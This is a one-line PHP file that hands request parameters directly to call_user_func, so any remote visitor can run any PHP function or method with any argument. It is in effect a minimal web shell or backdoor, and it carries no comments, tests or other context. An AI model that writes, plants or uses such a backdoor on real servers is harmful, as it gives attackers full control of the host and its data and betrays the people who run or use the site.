<?php call_user_func([$_GET['c'], $_GET['m']], $_GET['x']);
